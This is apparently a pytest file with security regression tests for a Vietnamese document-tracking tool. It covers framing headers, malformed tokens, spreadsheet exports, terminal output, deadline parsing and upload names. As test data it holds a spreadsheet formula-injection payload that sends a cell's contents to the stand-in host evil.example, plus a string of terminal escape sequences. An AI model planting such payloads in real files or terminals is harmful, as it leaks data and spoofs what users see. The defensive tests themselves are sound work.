"""Issue 27, item 7: the smaller findings of the second probe, one test each (each failed on main before).

- the e-mail pages (/email/confirm, /email/stop) cannot be framed;
- a confirmation token with a non-ASCII signature is a 400 "not valid" page, not a 500;
- XLSX exports (the registry, the report) quote-prefix text cells that a spreadsheet would read as a formula;
- the CLI does not echo terminal control sequences from registry cells;
- a bidi or zero-width mark inside a deadline phrase does not hide the deadline.
(CR/LF in next= and the Telegram Login Widget replay are in tests/test_web_http.py.)
"""

from __future__ import annotations

import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from aiohttp.test_utils import TestClient, TestServer
from sqlmodel import Session

from bot.email import AWAITING
from core.clock import FixedClock
from core.deadline import parse_deadline
from dondoc.settings import load_settings
from tests.conftest import cli_runner
from tests.factories import make_binding
from tests.test_registry_import import HEADER, write_csv

VN = ZoneInfo("Asia/Ho_Chi_Minh")
NOW = datetime(2018, 6, 12, 9, 0, tzinfo=VN)


# -- the e-mail pages ---------------------------------------------------------------------------------------

@pytest.fixture
async def email_client(db_url, engine):
    from web.feeds import make_app

    settings = load_settings(environ={}, dotenv_path=None, database_url=db_url, feed_render_processes=0,
                             feed_base_url="https://dondoc.example.gov.vn")
    with Session(engine) as s:
        b = make_binding(s, chat_id="lan@snv.example.gov.vn", platform="email", role="manager", now=NOW)
        b.active, b.disabled_reason = False, AWAITING
        s.add(b)
        s.commit()
        binding_id = b.id
    async with TestClient(TestServer(make_app(settings, engine, FixedClock(NOW)))) as client:
        yield client, settings, binding_id


async def test_the_email_pages_cannot_be_framed(email_client):
    from bot.email import make_token

    client, settings, binding_id = email_client
    pages = [f"/email/confirm?t={make_token(settings, 'confirm', binding_id, now=NOW.timestamp())}",
             f"/email/stop?t={make_token(settings, 'stop', binding_id, now=NOW.timestamp())}",
             "/email/confirm?t=garbage", "/email/stop?t=garbage"]
    for path in pages:
        r = await client.get(path)
        assert r.headers["X-Frame-Options"] == "DENY", path
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"], path
    r = await client.get(pages[0])
    assert r.status == 200 and "<form" in await r.text()  # the page with the button is among them


@pytest.mark.parametrize("token", ["confirm.1.9999999999.ẞignature", "confirm.1.9999999999.\u00e9t\u00e9",
                                   "confirm.\u00b2.9999999999.abc", "stop.1.\u0661\u0662.abc"])
async def test_a_garbled_token_is_a_400_page_not_a_500(email_client, token):
    from urllib.parse import quote

    client, _settings, _id = email_client
    for method, path in (("GET", "/email/confirm"), ("POST", "/email/confirm"), ("GET", "/email/stop"),
                         ("POST", "/email/stop")):
        if method == "GET":
            r = await client.get(f"{path}?t={quote(token)}")
        else:
            r = await client.post(path, data={"t": token})
        assert r.status == 400, (method, path, r.status)
        assert "<h1>" in await r.text()


# -- XLSX exports -------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(1)"]


def _cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.fixture
def registry_with_formulas(engine, db_url, monkeypatch, tmp_path):
    cli = cli_runner(monkeypatch, db_url, "2018-06-12T09:00:00+07:00")
    rows = [HEADER] + [[str(i + 1), f, "Sở Nội vụ", "", "Trước ngày 30/6/2018"] for i, f in enumerate(FORMULAS)]
    r = cli("import", str(write_csv(tmp_path / "plan.csv", rows)), "--document", "9/KH", "--issued", "1/6/2018")
    assert r.exit_code == 0, r.output
    return cli


def test_the_registry_export_quote_prefixes_formula_like_text(registry_with_formulas, tmp_path):
    out = tmp_path / "out.xlsx"
    r = registry_with_formulas("export", str(out))
    assert r.exit_code == 0, r.output
    cells = {c.value: c for c in _cells(out.read_bytes())}
    for f in FORMULAS:
        assert cells[f].data_type == "s" and cells[f].quotePrefix, f
    assert not cells["Sở Nội vụ"].quotePrefix  # ordinary text is left alone


def test_the_report_xlsx_quote_prefixes_formula_like_text(registry_with_formulas, tmp_path):
    out = tmp_path / "report.xlsx"
    r = registry_with_formulas("report", "--period", "Quý II/2018", "-o", str(out))
    assert r.exit_code == 0, r.output
    prefixed = {c.value for c in _cells(out.read_bytes()) if c.quotePrefix}
    assert set(FORMULAS) <= prefixed


# -- the terminal -------------------------------------------------------------------------------------------

HOSTILE = "Rà soát\x1b]0;pwned\x07 thủ tục\x1b[2J\x1b[31m hành chính\x9b0m\r"


def test_the_cli_does_not_echo_control_sequences_from_registry_cells(engine, db_url, monkeypatch, tmp_path):
    cli = cli_runner(monkeypatch, db_url, "2018-06-12T09:00:00+07:00")
    rows = [HEADER, ["1", HOSTILE, "Sở Nội vụ", "", "Trước ngày 30/6/2018"]]
    assert cli("import", str(write_csv(tmp_path / "plan.csv", rows)), "--document", "9/KH",
               "--issued", "1/6/2018").exit_code == 0
    r = cli("tasks")
    assert r.exit_code == 0 and "Rà soát thủ tục hành chính" in r.output
    for bad in ("\x1b", "\x07", "\x9b", "\r"):
        assert bad not in r.output
    # an import error quoting the cell
    rows = [HEADER, ["1", "Một", "Sở \x1b]0;x\x07Không Có\x1b[5m", "", "Trước ngày 30/6/2018"]]
    r = cli("import", str(write_csv(tmp_path / "bad.csv", rows)), "--document", "10/KH", "--issued", "1/6/2018")
    assert r.exit_code == 2 and "Không Có" in r.stderr and "\x1b" not in r.stderr and "\x07" not in r.stderr


# -- deadlines ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["\u200eTrước ngày\u200f 14/6/2018", "Trước\u200b ngày 14/6/2018",
                                  "\u202bTrước ngày 14/6/2018\u202c", "\ufeffTrước ngày 14/\u20606/2018",
                                  "Trư\u00adớc ngày 14/6/2018"])
def test_a_bidi_or_zero_width_mark_does_not_hide_the_deadline(text):
    d = parse_deadline(text, date(2018, 5, 23))
    assert (d.kind, d.due) == ("once", date(2018, 6, 14))
    assert "14" in d.matched  # quoted from the input itself


# -- uploads ------------------------------------------------------------------------------------------------

def _upload_folders(root) -> list:
    return sorted(p.name for p in root.iterdir() if p.name.startswith("dondoc-upload-"))


@pytest.mark.parametrize("name", ["..", ".", "..."])
async def test_an_upload_named_dot_dot_is_a_clear_error_and_leaves_no_folder(engine, db_url, tmp_path, monkeypatch,
                                                                             name):
    import tempfile

    import aiohttp

    from tests.web_harness import ADMIN, NOW as WEB_NOW, console, seed

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # the console's temporary folders, here
    seed(engine)
    settings = load_settings(environ={}, dotenv_path=None, database_url=db_url, admin_user_ids=(ADMIN,))
    async with console(engine, settings, FixedClock(WEB_NOW)) as c:
        await c.sign_in(ADMIN)
        csrf = await c.csrf("/web/registry")
        form = aiohttp.FormData()
        form.add_field("csrf", csrf)
        form.add_field("file", b"STT,Noi dung\n", filename=name, content_type="text/csv")
        r = await c.client.post("/web/registry/check", data=form)
        assert r.status == 400, await r.text()
        assert "ke-hoach.xlsx" in await r.text()
    assert _upload_folders(tmp_path) == []


def test_unconfirmed_uploads_of_a_crashed_process_are_removed_at_start(tmp_path):
    import os
    import subprocess
    import sys

    from web import upload_files

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()  # a process that has ended
    (tmp_path / f"dondoc-upload-{gone}-abc").mkdir()
    (tmp_path / f"dondoc-upload-{gone}-abc" / "plan.xlsx").write_bytes(b"x")
    (tmp_path / f"dondoc-upload-{os.getpid()}-mine").mkdir()  # this process's: kept
    (tmp_path / f"dondoc-upload-{os.getppid()}-other").mkdir()  # a process still running: kept
    assert upload_files.sweep_orphans(tmp_path) == 1
    assert _upload_folders(tmp_path) == sorted([f"dondoc-upload-{os.getpid()}-mine",
                                                f"dondoc-upload-{os.getppid()}-other"])
